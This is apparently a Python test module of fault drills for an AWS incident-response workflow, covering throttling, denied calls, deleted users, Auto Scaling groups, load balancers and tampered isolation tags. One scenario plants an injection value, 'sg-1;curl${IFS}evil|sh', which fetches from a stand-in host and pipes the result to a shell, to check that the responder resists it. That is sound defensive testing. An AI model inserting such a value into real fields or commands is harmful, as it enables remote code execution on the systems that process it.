"""Fault drills: the response under throttling, denial, missing resources, guard rails and repeats.

Each scenario names an event, what to do to the simulated account (before the run, or as a fault
injected into the AWS calls the handlers make) and the outcome a responder should get. Every one
must end with a notification, except a repeat in which nothing changed, which is recorded
silently; none may leave the workflow silent on a failure.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from botocore.exceptions import ClientError

from drill.account import Fault, SimulatedAccount
from drill.staging import Staged

EVENTS = Path(__file__).resolve().parent.parent / "tests" / "events"


@dataclass(frozen=True)
class Scenario:
    name: str
    event: str
    expected: str
    what: str
    setup: Callable[[SimulatedAccount, Staged], None] | None = None
    faults: Callable[[], list[Fault]] = field(default=lambda: [])
    environment: dict[str, str] = field(default_factory=dict)
    deliveries: int = 1
    redeliver: Callable[[Any], Any] | None = None
    between: Callable[[SimulatedAccount, Staged], None] | None = None

    @property
    def path(self) -> Path:
        return EVENTS / self.event


def _error(code: str, operation: str) -> ClientError:
    return ClientError({"Error": {"Code": code, "Message": f"injected by the drill: {code}"}}, operation)


def fail(service: str, operation: str, code: str, times: int | None = None) -> Callable[[], list[Fault]]:
    """A fault raising `code` on the first `times` calls of service:operation (every call if None)."""

    def make() -> list[Fault]:
        remaining = [times]

        def fault(called_service: str, called_operation: str, params: dict[str, Any]) -> Exception | None:
            if (called_service, called_operation) != (service, operation):
                return None
            if remaining[0] is None:
                return _error(code, operation)
            if remaining[0] > 0:
                remaining[0] -= 1
                return _error(code, operation)
            return None

        return [fault]

    return make


def _delete_exposed_key(account: SimulatedAccount, staged: Staged) -> None:
    iam = account.client("iam")
    for key in staged.access_key_ids:
        iam.delete_access_key(UserName=staged.users[0], AccessKeyId=key)


def _delete_user(account: SimulatedAccount, staged: Staged) -> None:
    iam = account.client("iam")
    for user in staged.users:
        for key in iam.list_access_keys(UserName=user)["AccessKeyMetadata"]:
            iam.delete_access_key(UserName=user, AccessKeyId=key["AccessKeyId"])
        iam.delete_user(UserName=user)


def _terminate_instance(account: SimulatedAccount, staged: Staged) -> None:
    account.client("ec2", staged.region).terminate_instances(InstanceIds=staged.instances)


def _in_auto_scaling_group(account: SimulatedAccount, staged: Staged) -> None:
    ec2 = account.client("ec2", staged.region)
    autoscaling = account.client("autoscaling", staged.region)
    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
    template = ec2.create_launch_template(
        LaunchTemplateName="web", LaunchTemplateData={"ImageId": instance["ImageId"], "InstanceType": "t3.micro"}
    )["LaunchTemplate"]["LaunchTemplateId"]
    autoscaling.create_auto_scaling_group(
        AutoScalingGroupName="web-asg",
        LaunchTemplate={"LaunchTemplateId": template},
        MinSize=0,
        MaxSize=3,
        DesiredCapacity=0,
        VPCZoneIdentifier=instance["SubnetId"],
    )
    autoscaling.attach_instances(InstanceIds=staged.instances, AutoScalingGroupName="web-asg")
    staged.notes.append(f"instance {staged.instances[0]} attached to Auto Scaling group web-asg")


def _forget_incidents(account: SimulatedAccount, staged: Staged) -> None:
    """As if the incident record had expired or someone started the response again by hand."""
    dynamodb = account.client("dynamodb")
    for table in dynamodb.list_tables()["TableNames"]:
        for item in dynamodb.scan(TableName=table)["Items"]:
            dynamodb.delete_item(TableName=table, Key={"id": item["id"]})


def _count_rises(event: Any) -> Any:
    """The repeat GuardDuty sends while the credentials are still in use: same id, higher count."""
    event = json.loads(json.dumps(event))
    event["id"] = "2f6c8e1a-4b3d-4c2e-9f10-0a1b2c3d4e5f"
    event["detail"]["service"]["count"] = int(event["detail"]["service"].get("count") or 1) + 4
    return event


# -- instance: load balancers, instance profile, isolation under attack


def _behind_load_balancers(account: SimulatedAccount, staged: Staged) -> None:
    """The web tier: the instance is a target of an ALB target group and a member of a Classic Load Balancer."""
    ec2 = account.client("ec2", staged.region)
    elbv2, elb = account.client("elbv2", staged.region), account.client("elb", staged.region)
    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
    group = elbv2.create_target_group(
        Name="web-targets", Protocol="HTTP", Port=8080, VpcId=instance["VpcId"], TargetType="instance"
    )["TargetGroups"][0]["TargetGroupArn"]
    elbv2.register_targets(TargetGroupArn=group, Targets=[{"Id": staged.instances[0], "Port": 8080}])
    elb.create_load_balancer(
        LoadBalancerName="legacy-web",
        Listeners=[{"Protocol": "HTTP", "LoadBalancerPort": 80, "InstancePort": 8080}],
        AvailabilityZones=[instance["Placement"]["AvailabilityZone"]],
    )
    elb.register_instances_with_load_balancer(
        LoadBalancerName="legacy-web", Instances=[{"InstanceId": staged.instances[0]}]
    )
    staged.notes.append(
        f"instance {staged.instances[0]} registered in target group web-targets and Classic LB legacy-web"
    )


def _incident_id(staged: Staged) -> str:
    """The id Normalize gives a GuardDuty finding (the instance tag of an earlier attempt carries it)."""
    return (
        f"{staged.event['detail'].get('accountId') or staged.event['account']}:guardduty:{staged.event['detail']['id']}"
    )


def _left_on_the_all_open_group(account: SimulatedAccount, staged: Staged) -> None:
    """What an attempt killed by a Lambda timeout between the two swaps leaves: the responder's copy
    of the original groups on the instance, the all-open group open, and one interface on it."""
    from isolate_instance.actions import PURPOSE_TAG, UNTRACK_GROUP, original_groups_tags

    ec2 = account.client("ec2", staged.region)
    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
    primary = next(e for e in instance["NetworkInterfaces"] if e["Attachment"]["DeviceIndex"] == 0)
    untrack = ec2.create_security_group(
        GroupName=UNTRACK_GROUP,
        Description="left by a dead attempt",
        VpcId=primary["VpcId"],
        TagSpecifications=[{"ResourceType": "security-group", "Tags": [{"Key": PURPOSE_TAG, "Value": "untrack"}]}],
    )["GroupId"]
    ec2.authorize_security_group_ingress(
        GroupId=untrack, IpPermissions=[{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
    )
    originals = {
        eni["NetworkInterfaceId"]: [g["GroupId"] for g in eni["Groups"]] for eni in instance["NetworkInterfaces"]
    }
    ec2.create_tags(Resources=staged.instances, Tags=original_groups_tags(originals, _incident_id(staged)))
    ec2.modify_network_interface_attribute(NetworkInterfaceId=primary["NetworkInterfaceId"], Groups=[untrack])
    staged.notes.append(f"{primary['NetworkInterfaceId']} left on the open all-open group {untrack}")


def _timeout_on_second_swap() -> list[Fault]:
    """The call that moves an interface from the all-open group to the isolation group dies once
    without an answer from AWS (not a ClientError): the second of two calls for one interface."""
    from botocore.exceptions import ReadTimeoutError

    state: dict[str, Any] = {"before": None, "raised": False}

    def fault(service: str, operation: str, params: dict[str, Any]) -> Exception | None:
        if (service, operation) != ("ec2", "ModifyNetworkInterfaceAttribute"):
            return None
        eni = params.get("NetworkInterfaceId")
        second, state["before"] = eni == state["before"], eni
        if second and not state["raised"]:
            state["raised"] = True
            return ReadTimeoutError(endpoint_url=f"https://ec2.amazonaws.com/?eni={eni}")
        return None

    return [fault]


def _tampered_tag(account: SimulatedAccount, staged: Staged) -> None:
    """Before the response, the attacker rewrites the original-groups tag: a shell payload for the
    instance's interface, and another interface (not the instance's) with a group of the attacker's."""
    from isolate_instance.actions import ORIGINAL_TAG

    ec2 = account.client("ec2", staged.region)
    instance = ec2.describe_instances(InstanceIds=staged.instances)["Reservations"][0]["Instances"][0]
    primary = instance["NetworkInterfaces"][0]
    other = ec2.create_network_interface(SubnetId=primary["SubnetId"])["NetworkInterface"]["NetworkInterfaceId"]
    staged.mapping["attacker-eni"] = other
    planted = {primary["NetworkInterfaceId"]: ["sg-1;curl${IFS}evil|sh"], other: [primary["Groups"][0]["GroupId"]]}
    ec2.create_tags(
        Resources=staged.instances,
        Tags=[{"Key": ORIGINAL_TAG, "Value": json.dumps({"incident": _incident_id(staged), "groups": planted})}],
    )
    staged.notes.append(f"original-groups tag rewritten by the attacker (shell payload, foreign ENI {other})")


SCENARIOS = {
    scenario.name: scenario
    for scenario in (
        Scenario(
            "iam-throttling",
            "health_exposed_key_classic.json",
            "contained",
            "IAM throttles UpdateAccessKey twice; the task is retried with backoff and succeeds",
            faults=fail("iam", "UpdateAccessKey", "Throttling", times=2),
        ),
        Scenario(
            "access-denied",
            "health_exposed_key_classic.json",
            "partial",
            "AttachUserPolicy is denied: the key is still deactivated, the quarantine step fails "
            "with the command to finish it by hand",
            faults=fail("iam", "AttachUserPolicy", "AccessDenied"),
        ),
        Scenario(
            "key-already-deleted",
            "health_exposed_key_2025_event_metadata.json",
            "contained",
            "someone deleted the exposed key first: a deleted key cannot authenticate",
            setup=_delete_exposed_key,
        ),
        Scenario(
            "user-deleted",
            "health_exposed_key_2025_event_metadata.json",
            "contained",
            "the key's user no longer exists (its keys went with it)",
            setup=_delete_user,
        ),
        Scenario(
            "unknown-key",
            "health_exposed_key_classic.json",
            "failed",
            "no user in the account owns the key (deleted, or another account's): containment cannot be "
            "verified, so the report says failed and gives the lookup command",
            setup=_delete_user,
        ),
        Scenario(
            "instance-terminated",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the instance is already gone: sessions are revoked; evidence and isolation are skipped",
            setup=_terminate_instance,
        ),
        Scenario(
            "auto-scaling-group",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the instance belongs to an Auto Scaling group: it is detached so the group cannot replace "
            "and terminate it",
            setup=_in_auto_scaling_group,
        ),
        Scenario(
            "several-enis",
            "crafted/guardduty_exfil_three_enis_two_vpcs.json",
            "contained",
            "three ENIs in two VPCs with different groups: every ENI isolated, one group per VPC",
        ),
        Scenario(
            "service-linked-role",
            "crafted/guardduty_exfil_service_linked_role.json",
            "failed",
            "the role is service-linked: IAM forbids the revoke policy, so the report says so and how",
        ),
        Scenario(
            "root-key",
            "crafted/health_root_key_exposed.json",
            "failed",
            "a root user's key: never acted on; the report gives the manual steps",
        ),
        Scenario(
            "exempted-principal",
            "health_exposed_key_2025_event_metadata.json",
            "failed",
            "the user is exempted by configuration: nothing is changed, the responders are told",
            environment={"EXEMPT_PRINCIPAL_ARNS": "arn:aws:iam::123456789012:user/test-1"},
        ),
        Scenario(
            "duplicate",
            "guardduty_exfil_outside_realistic.json",
            "duplicate",
            "the same finding delivered twice: the second is recorded and changes nothing",
            deliveries=2,
        ),
        Scenario(
            "still-in-use",
            "guardduty_exfil_outside_realistic.json",
            "duplicate",
            "GuardDuty re-sends the finding with a higher count after containment: the responders are told "
            "the credentials are still being used",
            deliveries=2,
            redeliver=_count_rises,
        ),
        Scenario(
            "record-unavailable",
            "health_exposed_key_classic.json",
            "contained",
            "the incident table refuses the outcome after the e-mail went out: the execution ends failed "
            "so the alarm fires, and the e-mail is not sent twice",
            faults=fail("dynamodb", "UpdateItem", "AccessDeniedException"),
        ),
        Scenario(
            "rerun",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the whole response runs again on the same finding (its record gone): every step finds its "
            "work done and changes nothing",
            deliveries=2,
            between=_forget_incidents,
        ),
        Scenario(
            "malformed",
            "crafted/guardduty_exfil_malformed_resource.json",
            "ignored",
            "a finding whose resource is not an object: ignored with a reason, no crash",
        ),
        Scenario(
            "dry-run-isolation",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "isolation alone in dry-run (dryRunActions): sessions revoked and evidence kept, the network "
            "left as it is and reported as what would be done",
            environment={"DRY_RUN_ISOLATE_INSTANCE": "true"},
        ),
        Scenario(
            "dry-run",
            "guardduty_exfil_outside_realistic.json",
            "failed",
            "dry-run: every change is reported as what it would do, nothing changes",
            environment={"DRY_RUN": "true"},
        ),
        # -- instance: load balancers, instance profile, isolation under attack
        Scenario(
            "load-balancer",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the instance is behind an ALB target group and a Classic Load Balancer: deregistered from both "
            "(recorded for release), so the attacker's requests no longer reach it",
            setup=_behind_load_balancers,
        ),
        Scenario(
            "instance-profile",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the instance profile association is removed (the profile recorded for release): the metadata "
            "service hands out no new role credentials",
        ),
        Scenario(
            "untrack-timeout",
            "crafted/guardduty_exfil_three_enis_two_vpcs.json",
            "contained",
            "an earlier attempt died between the two swaps (an interface left on the open all-open group), and "
            "this one times out once on a second swap: after the retry no interface is on the all-open group "
            "and it has no rules",
            setup=_left_on_the_all_open_group,
            faults=_timeout_on_second_swap,
        ),
        Scenario(
            "tag-tampered",
            "guardduty_exfil_outside_realistic.json",
            "contained",
            "the attacker rewrote the original-groups tag (a shell payload, another ENI) even with this "
            "incident's id: the live groups are recorded, the report's commands are quoted, release restores "
            "the recorded groups on the instance's own interfaces only",
            setup=_tampered_tag,
        ),
    )
}


def run_scenario(name: str, synthesized: Any, *, time_scale: float = 0.001) -> dict[str, Any]:
    from drill.runner import run_event_file

    scenario = SCENARIOS[name]
    result = run_event_file(
        scenario.path,
        synthesized,
        time_scale=time_scale,
        setup=scenario.setup,
        faults=scenario.faults(),
        environment=scenario.environment,
        deliveries=scenario.deliveries,
        redeliver=scenario.redeliver,
        between=scenario.between,
    )
    result["fault"] = {"scenario": name, "what": scenario.what, "expected": scenario.expected}
    return result
